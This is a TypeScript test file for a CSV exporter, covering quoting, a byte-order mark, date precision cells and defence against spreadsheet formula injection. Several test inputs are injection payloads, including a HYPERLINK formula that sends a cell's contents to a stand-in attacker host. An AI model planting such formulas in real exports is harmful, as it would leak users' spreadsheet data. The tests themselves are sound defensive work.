import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { BOM, dateCells, toCsv } from './csv.ts';

test('writes RFC 4180 with a BOM, quoting commas, quotes and line breaks, and parses back', () => {
  const csv = toCsv(
    ['slug', 'title'],
    [
      { slug: 'a', title: 'Marchés publics, "TELEMO"\nligne 2' },
      { slug: 'b', title: null },
    ],
  );
  expect(csv.startsWith(BOM)).toBe(true);
  expect(csv).toContain('\r\n');
  expect(csv).toContain('"Marchés publics, ""TELEMO""\nligne 2"');
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  expect(parsed.data).toEqual([
    { slug: 'a', title: 'Marchés publics, "TELEMO"\nligne 2' },
    { slug: 'b', title: '' },
  ]);
});

test('a text cell that a spreadsheet would run as a formula is written as text; numbers stay numbers', () => {
  const csv = toCsv(
    ['summary', 'other', 'count'],
    [{ summary: '=HYPERLINK("https://evil.example","Click")', other: '@SUM(A1)', count: -3 }],
  );
  const [, row] = csv.slice(1).split('\r\n');
  expect(row).toBe(`"'=HYPERLINK(""https://evil.example"",""Click"")","'@SUM(A1)",-3`);
});

test.each([
  ['=HYPERLINK("https://evil.example/?x="&A2,\n"Open")'],
  ['+1\r\n2'],
  ['-2+3\n'],
  ['@SUM(A1)\nnext line'],
  ['\t=1\n'],
  ['\r=1\n'],
])('a formula cell with a line break in it is written as text too: %j', (summary) => {
  const csv = toCsv(['summary'], [{ summary }]);
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.data).toEqual([{ summary: `'${summary}` }]);
});

test.each([
  ['2004', '2004-01-01', 'year'],
  ['2000-05', '2000-05-01', 'month'],
  ['2016-06-27', '2016-06-27', 'day'],
])('a date known to %s is written in full, its precision beside it', (date, full, precision) => {
  expect(dateCells('start', date)).toEqual({ start: full, start_precision: precision });
});

test('a missing date leaves both cells empty', () => {
  expect(dateCells('end', null)).toEqual({ end: null, end_precision: null });
});
